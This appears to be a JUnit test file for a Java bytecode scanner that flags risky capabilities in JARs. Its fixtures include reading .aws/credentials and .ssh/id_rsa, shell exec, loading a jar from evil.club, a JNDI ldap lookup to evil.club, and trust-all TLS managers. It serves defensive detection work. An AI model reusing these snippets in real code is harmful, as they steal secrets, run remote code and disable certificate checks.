package dev.assay.scanners.jvm;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.scanners.finding.FindingKind;
import dev.assay.scanners.profile.Fact;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What code can do besides calling other machines. */
class BytecodeCapabilitiesTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "new ProcessBuilder(\"git\", \"status\").start() | ProcessBuilder git",
                "new ProcessBuilder(List.of(\"g\" + \"it\".trim(), text)).start() | ProcessBuilder git",
                "Runtime.getRuntime().exec(\"curl -s \" + text) | Runtime.exec curl",
                "Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", text}) | Runtime.exec sh",
                "new ProcessBuilder(text).start() | ProcessBuilder *"
            })
    void tellsProgramsByName(String code, String value) {
        assertThat(Jars.body("return " + code + ";").values(FindingKind.PROCESS_SPAWN))
                .containsExactly(value);
    }

    @Test
    void tellsVariablesByNameAndWhatBecomesOfAllOfThem() {
        assertThat(
                        Jars.body(
                                        "return System.getenv(\"API_\" + \"KEY\".trim()) + System.getenv().get(\"OTHER\");")
                                .values(FindingKind.ENV_ACCESS))
                .containsExactlyInAnyOrder("API_KEY", "OTHER");
        assertThat(
                        Jars.body("return new java.util.ArrayList<>(System.getenv().entrySet());")
                                .facts(FindingKind.ENV_ACCESS))
                .singleElement()
                .extracting(Fact::value, fact -> fact.detail().get("how"))
                .containsExactly("*", "listed");
        assertThat(
                        Jars.body("return String.valueOf(System.getenv());")
                                .facts(FindingKind.ENV_ACCESS))
                .singleElement()
                .extracting(fact -> fact.detail().get("how"))
                .isEqualTo("handed to String.valueOf");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "java.nio.file.Files.readString(java.nio.file.Path.of(System.getProperty(\"user.home\"), \".aws/credentials\")) | read secrets readString",
                "new java.io.FileInputStream(System.getenv(\"HOME\") + \"/.ssh/id_rsa\") | read secrets FileInputStream",
                "java.nio.file.Files.writeString(java.nio.file.Path.of(System.getProperty(\"user.home\")).resolve(\".bashrc\"), text) | write startup writeString",
                "new java.io.File(\"/tmp/x\").delete() | delete tmp File.delete",
                "java.nio.file.Files.createTempFile(\"a\", \"b\") | write tmp createTempFile"
            })
    void tellsFilesByTheKindOfPlace(String code, String value) {
        assertThat(Jars.body("return " + code + ";").values(FindingKind.FS_ACCESS))
                .containsExactly(value);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Class.forName(text).getDeclaredConstructor().newInstance() | Class.forName *",
                "new java.net.URLClassLoader(new java.net.URL[] {new java.net.URL(\"https://evil.club/x.jar\")}) | URLClassLoader",
                "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(text) | ScriptEngine.eval",
                "java.lang.invoke.MethodHandles.lookup().defineClass(text.getBytes()) | Lookup.defineClass",
                "new java.io.ObjectInputStream(System.in).readObject() | ObjectInputStream.readObject",
                "new javax.naming.InitialContext().lookup(\"ldap://evil.club/a\") | JNDI ldap://evil.club/a"
            })
    void tellsCodeThatIsMadeOrChosenWhileRunning(String code, String value) {
        assertThat(Jars.body("return " + code + ";").values(FindingKind.DYNAMIC_CODE))
                .containsExactly(value);
    }

    @Test
    void letsAClassPassWhoseNameIsWritten() {
        assertThat(
                        Jars.body("return Class.forName(\"java.sql.Driver\");")
                                .values(FindingKind.DYNAMIC_CODE))
                .isEmpty();
    }

    @Test
    void tellsMachineCodeAndWhoLoadsIt() {
        assertThat(
                        Jars.members("native int run(); static { System.loadLibrary(\"fast\"); }")
                                .values(FindingKind.NATIVE_BINARY))
                .containsExactlyInAnyOrder("JNI Main", "fast");
    }

    @Test
    void tellsPortsThatAreOpened() {
        assertThat(
                        Jars.body(
                                        "return com.sun.net.httpserver.HttpServer.create(new java.net.InetSocketAddress(8080), 0);")
                                .values(FindingKind.LISTENER))
                .containsExactly("listen HttpServer");
        assertThat(Jars.body("return new java.net.ServerSocket(9000);").facts(FindingKind.LISTENER))
                .singleElement()
                .extracting(fact -> fact.detail().get("port"))
                .isEqualTo(9000L);
    }

    @Test
    void tellsChecksOfCertificatesThatAreSwitchedOff() {
        assertThat(
                        Jars.of(
                                        "package a; import java.security.cert.X509Certificate; public class Main implements javax.net.ssl.X509TrustManager {"
                                                + " public void checkClientTrusted(X509Certificate[] c, String t) {} public void checkServerTrusted(X509Certificate[] c, String t) {}"
                                                + " public X509Certificate[] getAcceptedIssuers() { return null; } javax.net.ssl.HostnameVerifier any() { return (h, s) -> true; } }")
                                .values(FindingKind.TLS_PINNING))
                .containsExactlyInAnyOrder(
                        "TrustManager accepts all", "HostnameVerifier accepts all");
    }

    @Test
    void saysByWhichCallsAToolComesToAPlace() {
        var facts =
                Jars.of(
                                "package a; public class Main { @org.springframework.ai.tool.annotation.Tool(name = \"list\") public Object list(String where) throws Exception { return run(where); }"
                                        + " private Object run(String where) throws Exception { return new ProcessBuilder(\"ls\", where).start(); } }")
                        .facts(FindingKind.PROCESS_SPAWN);
        assertThat(dev.assay.scanners.finding.CallPath.in(facts.getFirst().detail()).text())
                .startsWith("tool list → Main.list (a/Main.class:1) → Main.run");
    }
}
